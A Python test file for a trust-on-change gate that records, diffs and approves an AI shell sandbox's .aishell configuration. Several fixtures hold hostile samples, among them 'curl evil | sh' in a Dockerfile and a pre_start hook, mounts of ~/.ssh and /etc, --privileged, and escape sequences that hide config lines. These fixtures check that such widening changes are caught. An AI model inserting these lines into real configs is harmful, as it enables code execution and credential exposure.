"""Trust on change (`aishell.trust`): snapshots, approvals, diffs, narrowing, the gate."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from aishell import trust
from aishell.config import Expansion, FileConfig, FileNetwork, Mount, load_file, normalize
from aishell.config.values import FileDetection
from aishell.errors import Aborted, AishellError, ConfigError
from aishell.project import resolve

pytestmark = pytest.mark.usefixtures("no_color")


@pytest.fixture
def proj(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / ".git").mkdir(parents=True)
    return root


def write(root: Path, rel: str, text: str | bytes, mode: int = 0o644) -> Path:
    path = root / ".aishell" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    os.chmod(path, mode)
    return path


def status(root: Path) -> trust.Status:
    return trust.status(resolve(str(root)), root / ".aishell")


EXPANSION = Expansion(home="/home/u", uid=1000, gid=1000, user="u")


# ------------------------------------------------------------------ snapshot


def test_snapshot_reads_everything_in_order(proj: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    write(proj, "Dockerfile", "FROM aishell:base\n")
    write(proj, "files/run.sh", "#!/bin/sh\n", 0o755)
    os.symlink("run.sh", proj / ".aishell" / "files" / "link")
    snap = trust.snapshot(proj / ".aishell")
    assert [(e.rel, e.kind) for e in snap.entries] == [
        ("Dockerfile", "file"),
        ("config.yaml", "file"),
        ("files", "dir"),
        ("files/link", "link"),
        ("files/run.sh", "file"),
    ]
    run = snap.get("files/run.sh")
    assert run is not None and run.mode == 0o755 and run.data == b"#!/bin/sh\n"
    link = snap.get("files/link")
    assert link is not None and link.link == "run.sh" and link.data == b""
    assert snap.takes_effect


@pytest.mark.parametrize(
    "change",
    [
        lambda p: write(p, "config.yaml", "tmux: true\n"),
        lambda p: os.chmod(p / ".aishell" / "config.yaml", 0o600),
        lambda p: write(p, "extra.txt", "x"),
        lambda p: (p / ".aishell" / "sub").mkdir(),
        lambda p: os.symlink("/etc/passwd", p / ".aishell" / "ln"),
        lambda p: os.unlink(p / ".aishell" / "Dockerfile"),
    ],
)
def test_every_change_changes_the_digest(proj: Path, change: object) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    write(proj, "Dockerfile", "FROM aishell:base\n")
    before = trust.snapshot(proj / ".aishell").digest
    change(proj)  # type: ignore[operator]
    assert trust.snapshot(proj / ".aishell").digest != before


def test_digest_is_stable(proj: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    assert trust.snapshot(proj / ".aishell").digest == trust.snapshot(proj / ".aishell").digest


def test_symlinked_config_is_read_through_the_link(proj: Path, tmp_path: Path) -> None:
    shared = tmp_path / "shared.yaml"
    shared.write_text("tmux: false\n")
    (proj / ".aishell").mkdir()
    os.symlink(shared, proj / ".aishell" / "config.yaml")
    first = trust.snapshot(proj / ".aishell")
    entry = first.get("config.yaml")
    assert entry is not None and entry.kind == "file" and entry.data == b"tmux: false\n"
    assert entry.link == str(shared)
    shared.write_text("mounts: [/etc]\n")  # the target changes: so does the digest
    assert trust.snapshot(proj / ".aishell").digest != first.digest


def test_links_below_the_top_are_never_followed(proj: Path, tmp_path: Path) -> None:
    secret = tmp_path / "outside"
    secret.mkdir()
    (secret / "id_rsa").write_text("PRIVATE")
    (proj / ".aishell").mkdir()
    os.symlink(secret, proj / ".aishell" / "keys")
    write(proj, "Dockerfile", "FROM aishell:base\nCOPY keys /k\n")
    snap = trust.snapshot(proj / ".aishell")
    assert [e.rel for e in snap.entries] == ["Dockerfile", "keys"]
    assert all(b"PRIVATE" not in e.data for e in snap.entries)


def test_a_fifo_does_not_hang_and_is_recorded(proj: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    os.mkfifo(proj / ".aishell" / "pipe")
    done: list[trust.Snapshot] = []
    t = threading.Thread(target=lambda: done.append(trust.snapshot(proj / ".aishell")))
    t.start()
    t.join(10)
    assert done, "reading a FIFO hung"
    assert done[0].get("pipe") == trust.Entry("pipe", "other", 0)


def test_a_fifo_named_config_yaml_is_not_read(proj: Path) -> None:
    (proj / ".aishell").mkdir()
    os.mkfifo(proj / ".aishell" / "config.yaml")
    snap = trust.snapshot(proj / ".aishell")
    entry = snap.get("config.yaml")
    assert entry is not None and entry.kind == "other"
    with pytest.raises(ConfigError, match="not a regular file"):
        snap.reader(proj / ".aishell")(proj / ".aishell" / "config.yaml")


def test_too_many_entries_is_a_clear_error(proj: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(trust, "MAX_ENTRIES", 3)
    for i in range(5):
        write(proj, f"f{i}", "x")
    with pytest.raises(AishellError, match="more than 3 entries"):
        trust.snapshot(proj / ".aishell")


def test_too_many_bytes_is_a_clear_error(proj: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(trust, "MAX_TOTAL_BYTES", 10)
    write(proj, "Dockerfile", "FROM aishell:base\n")
    with pytest.raises(AishellError, match="MiB") as info:
        trust.snapshot(proj / ".aishell")
    assert "keep .aishell/ small" in (info.value.hint or "")


def test_only_config_and_dockerfile_take_effect(proj: Path) -> None:
    write(proj, "notes.txt", "hello")
    assert status(proj).state == "none"  # nothing aishell reads: nothing to approve
    write(proj, "Dockerfile", "FROM aishell:base\n")
    assert status(proj).state == "new"


def test_no_config_dir_is_nothing_to_approve(proj: Path) -> None:
    assert trust.status(resolve(str(proj)), None) == trust.Status("none", None, None, None)


# ------------------------------------------------------------------ approvals


def test_approve_then_change_then_approve(proj: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    project = resolve(str(proj))
    st = status(proj)
    assert st.state == "new" and not st.trusted
    record = trust.approve(project, st.snapshot)  # type: ignore[arg-type]
    assert status(proj).state == "approved"
    assert trust.load_record(project) == record
    write(proj, "config.yaml", "tmux: true\n")
    changed = status(proj)
    assert changed.state == "changed" and changed.record == record
    trust.approve(project, changed.snapshot)  # type: ignore[arg-type]
    assert status(proj).state == "approved"


def test_approvals_are_kept_outside_the_project(proj: Path, tmp_path: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    project = resolve(str(proj))
    trust.approve(project, status(proj).snapshot)  # type: ignore[arg-type]
    where = trust.trust_dir(project)
    assert str(where).startswith(str(tmp_path / "aishell-home"))
    assert project.store_key in str(where)
    assert not where.is_relative_to(proj)


def test_approved_copy_is_exact(proj: Path) -> None:
    write(proj, "Dockerfile", "FROM aishell:base\n")
    write(proj, "bin/tool", "#!/bin/sh\n", 0o750)
    os.symlink("tool", proj / ".aishell" / "bin" / "alias")
    os.mkfifo(proj / ".aishell" / "pipe")
    project = resolve(str(proj))
    snap = status(proj).snapshot
    assert snap is not None
    trust.approve(project, snap)
    copy = trust.approved_dir(project)
    assert os.stat(copy / "bin" / "tool").st_mode & 0o777 == 0o750
    assert os.readlink(copy / "bin" / "alias") == "tool"
    assert not (copy / "pipe").exists()  # nothing a build could use
    again = trust.approved_snapshot(project)
    assert again is not None
    assert [e for e in again.entries if e.kind != "other"] == [
        e for e in snap.entries if e.kind != "other"
    ]


def test_approving_again_replaces_the_copy(proj: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    write(proj, "old.txt", "x")
    project = resolve(str(proj))
    trust.approve(project, status(proj).snapshot)  # type: ignore[arg-type]
    os.unlink(proj / ".aishell" / "old.txt")
    trust.approve(project, status(proj).snapshot)  # type: ignore[arg-type]
    assert not (trust.approved_dir(project) / "old.txt").exists()
    assert sorted(p.name for p in trust.trust_dir(project).iterdir()) == [
        ".lock",
        "approved",
        "approved.json",
    ]


def test_a_damaged_record_counts_as_no_approval(proj: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    project = resolve(str(proj))
    trust.approve(project, status(proj).snapshot)  # type: ignore[arg-type]
    (trust.trust_dir(project) / "approved.json").write_text("{not json")
    assert status(proj).state == "new"


def test_a_project_elsewhere_has_its_own_approval(proj: Path, tmp_path: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    trust.approve(resolve(str(proj)), status(proj).snapshot)  # type: ignore[arg-type]
    clone = tmp_path / "clone"
    (clone / ".git").mkdir(parents=True)
    (clone / ".aishell").mkdir()
    (clone / ".aishell" / "config.yaml").write_text("tmux: false\n")
    os.chmod(clone / ".aishell" / "config.yaml", 0o644)
    assert status(clone).state == "new"  # same content, other project: not approved


# ------------------------------------------------------------------ display


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text", "plain text"),
        ("tab\there", "tab\there"),
        ("\x1b[8mhidden\x1b[0m", "\\x1b[8mhidden\\x1b[0m"),
        ("bell\x07", "bell\\x07"),
        ("cr\rover", "cr\\x0dover"),
        ("\x9bcsi", "\\x9bcsi"),
        ("del\x7f", "del\\x7f"),
        ("rtl\u202eoverride", "rtl\\u202eoverride"),
        ("iso\u2066late\u2069", "iso\\u2066late\\u2069"),
        ("zero\u200bwidth", "zero\\u200bwidth"),
        ("bom\ufeff", "bom\\ufeff"),
        ("ünïcödé ✓", "ünïcödé ✓"),
    ],
)
def test_visible(text: str, shown: str) -> None:
    assert trust.visible(text) == shown


def test_diff_of_a_first_approval_is_the_whole_content(proj: Path) -> None:
    write(proj, "config.yaml", "mounts:\n  - ~/.ssh\n")
    lines = trust.diff_lines(None, status(proj).snapshot)  # type: ignore[arg-type]
    assert lines[:3] == ["--- /dev/null", "+++ now .aishell/config.yaml", "@@ -0,0 +1,2 @@"]
    assert lines[3:] == ["+mounts:", "+  - ~/.ssh"]


def test_diff_of_a_change(proj: Path) -> None:
    write(proj, "config.yaml", "network:\n  mode: none\n")
    project = resolve(str(proj))
    trust.approve(project, status(proj).snapshot)  # type: ignore[arg-type]
    write(proj, "config.yaml", "network:\n  mode: open\n")
    write(proj, "Dockerfile", "FROM aishell:base\nRUN curl evil | sh\n")
    lines = trust.diff_lines(trust.approved_snapshot(project), status(proj).snapshot)  # type: ignore[arg-type]
    assert "-  mode: none" in lines and "+  mode: open" in lines
    assert "+RUN curl evil | sh" in lines
    assert "--- approved .aishell/config.yaml" in lines


def test_diff_hides_nothing_behind_escapes(proj: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n\x1b[1A\x1b[2Kmounts: [/]\n")
    text = "\n".join(trust.diff_lines(None, status(proj).snapshot))  # type: ignore[arg-type]
    assert "\x1b" not in text
    assert "\\x1b[1A\\x1b[2Kmounts: [/]" in text


def test_diff_of_binary_links_and_modes(proj: Path) -> None:
    write(proj, "Dockerfile", "FROM aishell:base\n")
    write(proj, "blob.bin", b"\x00\x01\x02")
    project = resolve(str(proj))
    trust.approve(project, status(proj).snapshot)  # type: ignore[arg-type]
    os.chmod(proj / ".aishell" / "Dockerfile", 0o755)
    write(proj, "blob.bin", b"\x00\x01\x03")
    os.symlink("/home/u/.ssh", proj / ".aishell" / "keys")
    lines = trust.diff_lines(trust.approved_snapshot(project), status(proj).snapshot)  # type: ignore[arg-type]
    assert "mode of .aishell/Dockerfile: 644 -> 755" in lines
    assert any(line.startswith(".aishell/blob.bin: binary file changed") for line in lines)
    assert "+(symlink to /home/u/.ssh)" in lines


def test_diff_names_a_symlinked_config(proj: Path, tmp_path: Path) -> None:
    shared = tmp_path / "team.yaml"
    shared.write_text("tmux: false\n")
    (proj / ".aishell").mkdir()
    os.symlink(shared, proj / ".aishell" / "config.yaml")
    lines = trust.diff_lines(None, status(proj).snapshot)  # type: ignore[arg-type]
    assert f".aishell/config.yaml is read through a symlink to {shared}" in lines


# ------------------------------------------------------------------ narrowing


def cfg(text: str) -> FileConfig:
    import yaml

    return normalize(
        yaml.safe_load(text) or {},
        path="/p/.aishell/config.yaml",
        scope="project",
        base_dir=Path("/p"),
        expansion=EXPANSION,
    )


NARROWING = [
    ("mounts: [/a, /b]", "mounts: [/a]"),
    ("mounts: [/a]", "mounts: []"),
    ("mounts: [/a]", "mounts: ['/a:/a:ro']"),
    ("mounts: ['/a:/x']", "mounts: ['/a:/x:ro']"),
    ("ports: ['8080:80', '9090:90']", "ports: ['8080:80']"),
    ("{}", "network: {mode: none}"),
    ("{}", "network: {mode: allowlist, allow: [a.example]}"),
    ("network: {mode: open}", "network: {mode: none}"),
    ("network: {mode: open}", "network: {mode: allowlist}"),
    ("network: {mode: allowlist}", "network: {mode: none}"),
    ("network: {mode: allowlist, allow: [a.example, b.example]}",
     "network: {mode: allowlist, allow: [a.example]}"),
    ("network: {mode: allowlist, presets: [npm, pypi]}",
     "network: {mode: allowlist, presets: [npm]}"),
    ("pre_start: make", "{}"),
    ("pre_start: make", "pre_start:"),
    ("detection: {enabled: false}", "detection: {enabled: true}"),
    ("detection: {enabled: false}", "{}"),
    ("detection: {allowlist: [{path: a, reason: r}]}", "detection: {allowlist: []}"),
    ("{}", "detection: {custom_patterns: {'*.secret': high}}"),
    ("tmux: false", "# a comment\ntmux: false"),
    ("mounts: [/a]", "mounts:\n  - /a"),
]  # fmt: skip

WIDENING = [
    ("mounts: [/a]", "mounts: [/a, ~/.ssh]"),
    ("mounts: ['/a:/a:ro']", "mounts: [/a]"),
    ("mounts: ['/a:/x']", "mounts: ['/a:/y']"),
    ("mounts: []", "mounts: [/etc]"),
    ("ports: ['8080:80']", "ports: ['8080:80', '22:22']"),
    ("network: {mode: none}", "network: {mode: open}"),
    ("network: {mode: none}", "network: {mode: allowlist}"),
    ("network: {mode: none}", "{}"),
    ("network: {mode: allowlist}", "{}"),
    ("network: {mode: allowlist, allow: [a.example]}",
     "network: {mode: allowlist, allow: [a.example, evil.example]}"),
    ("network: {mode: allowlist}", "network: {mode: allowlist, presets: [github]}"),
    ("{}", "pre_start: curl evil | sh"),
    ("pre_start: make", "pre_start: make && curl evil"),
    ("{}", "docker_args: --privileged"),
    ("docker_args: [--cap-drop, ALL]", "docker_args: []"),
    ("{}", "env: {X: y}"),
    ("env: {HTTPS_PROXY: x}", "{}"),
    ("{}", "harness_args: {opencode: [--x]}"),
    ("{}", "extends: none"),
    ("detection: {enabled: true}", "detection: {enabled: false}"),
    ("{}", "detection: {enabled: false}"),
    ("{}", "detection: {allowlist: [{path: id_rsa, reason: r}]}"),
    ("detection: {custom_patterns: {'*.secret': high}}", "{}"),
    ("tmux: true", "tmux: false"),
    ("{}", "gitleaks_freshness_check: false"),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new"), NARROWING)
def test_narrowing_changes(old: str, new: str) -> None:
    assert trust.narrows(cfg(old), cfg(new))


@pytest.mark.parametrize(("old", "new"), WIDENING)
def test_other_changes_are_not_narrowing(old: str, new: str) -> None:
    assert not trust.narrows(cfg(old), cfg(new))


def test_narrowing_needs_everything_but_the_config_unchanged(proj: Path) -> None:
    write(proj, "config.yaml", "mounts: [/a, /b]\n")
    write(proj, "Dockerfile", "FROM aishell:base\n")
    project = resolve(str(proj))
    trust.approve(project, status(proj).snapshot)  # type: ignore[arg-type]
    write(proj, "config.yaml", "mounts: [/a]\n")
    kw = {"expansion": EXPANSION, "aishell_home": Path("/nonexistent")}
    assert trust.narrowing_change(project, status(proj), **kw)  # type: ignore[arg-type]
    write(proj, "Dockerfile", "FROM aishell:base\nRUN true\n")
    assert not trust.narrowing_change(project, status(proj), **kw)  # type: ignore[arg-type]


def test_an_invalid_config_is_never_narrowing(proj: Path) -> None:
    write(proj, "config.yaml", "mounts: [/a]\n")
    project = resolve(str(proj))
    trust.approve(project, status(proj).snapshot)  # type: ignore[arg-type]
    write(proj, "config.yaml", "mounts: [\n")
    st = status(proj)
    assert not trust.narrowing_change(project, st, expansion=EXPANSION, aishell_home=Path("/x"))


def test_narrows_record_fields_are_all_considered() -> None:
    """A new FileConfig field must be judged by `narrows` (or be in its `same` list)."""
    judged = {
        "extends", "env", "docker_args", "harness_args", "gitleaks_freshness_check",
        "gitleaks_freshness_threshold", "tmux", "base_image", "ca_certificates", "engine",
        "ports", "pre_start", "mounts", "network", "detection",
        "path", "scope", "keys", "lines", "share_logins", "share_from_host",
        "git_internals", "sessions_keep_days", "sessions_keep",  # (global only)
    }  # fmt: skip
    assert set(FileConfig._fields) <= judged, set(FileConfig._fields) - judged
    base = FileConfig(path="p", scope="project")
    assert trust.narrows(base, base._replace(mounts=()))
    writable = base._replace(git_internals="writable")
    assert trust.narrows(writable, base._replace(git_internals="read-only"))
    assert not trust.narrows(base, writable)
    assert not trust.narrows(writable, base)  # unset: the global setting decides
    m = Mount("/a", "/a", False, "p")
    assert not trust.narrows(base, base._replace(mounts=(m,)))
    assert trust.narrows(base._replace(mounts=(m,)), base)
    # a project can only tighten the network: setting any mode narrows or keeps it
    assert trust.narrows(base, base._replace(network=FileNetwork(mode="open")))
    assert not trust.narrows(base._replace(network=FileNetwork(mode="none")), base)
    assert trust.narrows(base._replace(detection=FileDetection(enabled=False)), base)


# ------------------------------------------------------------------ the gate


def gate(root: Path, *, interactive: bool, answer: bool = True) -> trust.Status:
    asked: list[str] = []

    def ask(question: str) -> bool:
        asked.append(question)
        return answer

    result = trust.gate(
        resolve(str(root)),
        status(root),
        interactive=interactive,
        expansion=EXPANSION,
        aishell_home=Path("/nonexistent"),
        ask=ask,
    )
    assert len(asked) <= 1
    return result


def test_gate_without_a_terminal_refuses_and_names_the_command(proj: Path) -> None:
    write(proj, "config.yaml", "mounts: [/etc]\n")
    with pytest.raises(AishellError) as info:
        gate(proj, interactive=False)
    assert "not approved yet" in info.value.message
    assert "aishell trust" in (info.value.hint or "")
    assert str(proj) in (info.value.hint or "")
    assert status(proj).state == "new"  # nothing was approved


def test_gate_on_a_terminal_shows_the_diff_and_asks(
    proj: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(proj, "config.yaml", "mounts: [/etc]\n")
    st = gate(proj, interactive=True, answer=True)
    assert st.state == "approved"
    assert status(proj).state == "approved"
    err = capsys.readouterr().err
    assert "+mounts: [/etc]" in err and "not approved yet" in err


def test_gate_on_a_terminal_no_is_aborted(proj: Path) -> None:
    write(proj, "config.yaml", "mounts: [/etc]\n")
    with pytest.raises(Aborted):
        gate(proj, interactive=True, answer=False)
    assert status(proj).state == "new"


def test_gate_approves_a_narrowing_change_by_itself(
    proj: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(proj, "config.yaml", "network:\n  mode: open\nmounts: [/a]\n")
    trust.approve(resolve(str(proj)), status(proj).snapshot)  # type: ignore[arg-type]
    write(proj, "config.yaml", "network:\n  mode: none\n")
    assert gate(proj, interactive=False).state == "approved"
    assert "narrow" in capsys.readouterr().err
    assert status(proj).state == "approved"


def test_gate_lets_approved_content_through_silently(proj: Path) -> None:
    write(proj, "config.yaml", "tmux: false\n")
    trust.approve(resolve(str(proj)), status(proj).snapshot)  # type: ignore[arg-type]
    assert gate(proj, interactive=False).state == "approved"


def test_reader_serves_the_snapshot_not_the_file(proj: Path) -> None:
    path = write(proj, "config.yaml", "tmux: false\n")
    snap = status(proj).snapshot
    assert snap is not None
    path.write_text("mounts: [/]\n")  # changed after the read: the launch never sees it
    part = load_file(
        path,
        scope="project",
        base_dir=proj,
        expansion=EXPANSION,
        read=snap.reader(proj / ".aishell"),
    )
    assert part is not None and part.tmux is False and part.mounts == ()


def test_status_json() -> None:
    assert trust.status_json(None, "boom")["error"] == "boom"
    assert trust.status_json(trust.Status("none", None, None, None))["state"] == "none"


@pytest.mark.parametrize("target", ["/dev/zero", "/dev/null"])
def test_a_config_linked_to_a_device_is_not_read(proj: Path, target: str) -> None:
    (proj / ".aishell").mkdir()
    os.symlink(target, proj / ".aishell" / "config.yaml")
    entry = trust.snapshot(proj / ".aishell").get("config.yaml")
    assert entry is not None and entry.kind == "other" and entry.data == b""


def test_a_dangling_config_link_is_no_config(proj: Path) -> None:
    (proj / ".aishell").mkdir()
    os.symlink("missing.yaml", proj / ".aishell" / "config.yaml")
    snap = trust.snapshot(proj / ".aishell")
    assert snap.get("config.yaml") is None and not snap.takes_effect
